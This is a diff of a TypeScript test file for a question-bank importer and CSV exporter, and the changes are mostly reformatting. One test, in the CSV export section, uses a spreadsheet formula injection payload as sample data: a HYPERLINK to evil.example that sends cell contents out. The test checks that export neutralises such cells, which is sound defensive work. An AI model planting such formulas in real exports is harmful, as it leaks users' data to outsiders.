@@ -6,7 +6,8 @@ import { parseBankImport } from "./parse";
 import { bankCsvFile, bankJsonFile, type ExportedQuestion } from "./serialize";
 import { csvField } from "../csv-cell";
 
-const errorsOf = (r: BankImportResult) => r.errors.map((e) => `${e.at}${e.line ? ` (line ${e.line})` : ""}: ${e.message}`);
+const errorsOf = (r: BankImportResult) =>
+  r.errors.map((e) => `${e.at}${e.line ? ` (line ${e.line})` : ""}: ${e.message}`);
 const question = (extra: Record<string, unknown> = {}) => ({
   text: "What does the writer mean by “a market of voices”?",
   options: ["A noisy place", "A place of many opinions", "A choir", "A radio station"],
@@ -18,13 +19,22 @@ const question = (extra: Record<string, unknown> = {}) => ({
   stimulus: "p1",
   ...extra,
 });
-const passage = { ref: "p1", kind: "passage", title: "Market day", content: "Every Saturday the market fills with voices…" };
+const passage = {
+  ref: "p1",
+  kind: "passage",
+  title: "Market day",
+  content: "Every Saturday the market fills with voices…",
+};
 const file = (content: Record<string, unknown>) => JSON.stringify(content, null, 2);
 
 describe("parseBankJson: valid files", () => {
   it("a passage and its questions in one file", () => {
     const r = parseBankJson(
-      file({ subject: "English", stimuli: [passage], questions: [question(), question({ text: "Who wrote it?", stimulus: undefined })] }),
+      file({
+        subject: "English",
+        stimuli: [passage],
+        questions: [question(), question({ text: "Who wrote it?", stimulus: undefined })],
+      }),
       {},
       "English",
     );
@@ -58,7 +68,13 @@ describe("parseBankJson: valid files", () => {
       difficulty: "easy",
     });
     expect(r.errors).toEqual([]);
-    expect(r.questions[0]).toMatchObject({ exams: ["NECO"], topic: "t", difficulty: "easy", answer: "A", answerIndex: 0 });
+    expect(r.questions[0]).toMatchObject({
+      exams: ["NECO"],
+      topic: "t",
+      difficulty: "easy",
+      answer: "A",
+      answerIndex: 0,
+    });
   });
 
   it("a source in the style of an exam's paper", () => {
@@ -71,7 +87,11 @@ describe("parseBankJson: errors name the question, the field and the line", () =
   it("each bad field of each question", () => {
     const text = file({
       stimuli: [passage],
-      questions: [question(), question({ options: ["a", "b", "a", "$x^$"], answer: "E", exams: ["JAMB"] }), question({ stimulus: "p9", colour: "red" })],
+      questions: [
+        question(),
+        question({ options: ["a", "b", "a", "$x^$"], answer: "E", exams: ["JAMB"] }),
+        question({ stimulus: "p9", colour: "red" }),
+      ],
     });
     expect(errorsOf(parseBankJson(text))).toEqual([
       "questions[1].options[2] (line 34): Options must all be different: option C repeats option A",
@@ -91,7 +111,12 @@ describe("parseBankJson: errors name the question, the field and the line", () =
 
   it("bad stimuli", () => {
     const text = file({
-      stimuli: [passage, { ...passage, title: "Again" }, { ref: "d1", kind: "diagram", content: "A circuit" }, { ref: "x", kind: "poem", content: "" }],
+      stimuli: [
+        passage,
+        { ...passage, title: "Again" },
+        { ref: "d1", kind: "diagram", content: "A circuit" },
+        { ref: "x", kind: "poem", content: "" },
+      ],
       questions: [question()],
     });
     expect(errorsOf(parseBankJson(text))).toEqual([
@@ -108,11 +133,19 @@ describe("parseBankJson: errors name the question, the field and the line", () =
       '{\n  "questions": [\n    {"text": "Why?",}\n  ]\n}',
       "line 3 (line 3): This is not valid JSON (line 3, column 21): A comma before } leaves an empty entry: remove the last comma",
     ],
-    ["a list, not an object", "[]", 'file (line 1): The file must be one JSON object: { "stimuli": [...], "questions": [...] }'],
+    [
+      "a list, not an object",
+      "[]",
+      'file (line 1): The file must be one JSON object: { "stimuli": [...], "questions": [...] }',
+    ],
     ["no questions list", '{"stimuli": []}', 'questions (line 1): The file has no "questions" list'],
     ["an empty questions list", '{"questions": []}', "questions (line 1): The file has no questions"],
     ["questions not a list", '{"questions": {}}', "questions (line 1): questions must be a list"],
-    ["a question that is not an object", '{"questions": ["Why?"]}', "questions[0] (line 1): Each question must be an object"],
+    [
+      "a question that is not an object",
+      '{"questions": ["Why?"]}',
+      "questions[0] (line 1): Each question must be an object",
+    ],
     [
       "an unknown top-level field",
       '{"question": [], "questions": [1]}',
@@ -123,9 +156,9 @@ describe("parseBankJson: errors name the question, the field and the line", () =
   });
 
   it("a file for another subject", () => {
-    expect(errorsOf(parseBankJson(file({ subject: "Physics", questions: [question({ stimulus: null })] }), {}, "English"))).toEqual([
-      'subject (line 2): The file is for "Physics" but the import is for English',
-    ]);
+    expect(
+      errorsOf(parseBankJson(file({ subject: "Physics", questions: [question({ stimulus: null })] }), {}, "English")),
+    ).toEqual(['subject (line 2): The file is for "Physics" but the import is for English']);
   });
 
   it(`more than ${BANK_IMPORT_MAX_QUESTIONS} questions`, () => {
@@ -213,7 +246,11 @@ describe("CSV export of cells a spreadsheet would run", () => {
   it("writes each with an apostrophe inside quotes, so no cell starts with a formula character", () => {
     const file = bankCsvFile([formulaLike]);
     const row = file.split("\r\n")[1]!;
-    expect(row.startsWith(`"'=HYPERLINK(""http://evil.example/steal?q=""&A1,""Click for the answer"")","'+1+1","'-2","'@SUM(1)","''=1",`)).toBe(true);
+    expect(
+      row.startsWith(
+        `"'=HYPERLINK(""http://evil.example/steal?q=""&A1,""Click for the answer"")","'+1+1","'-2","'@SUM(1)","''=1",`,
+      ),
+    ).toBe(true);
     expect(row).toContain(`"'-2 because 3 - 5 = -2"`);
   });
 
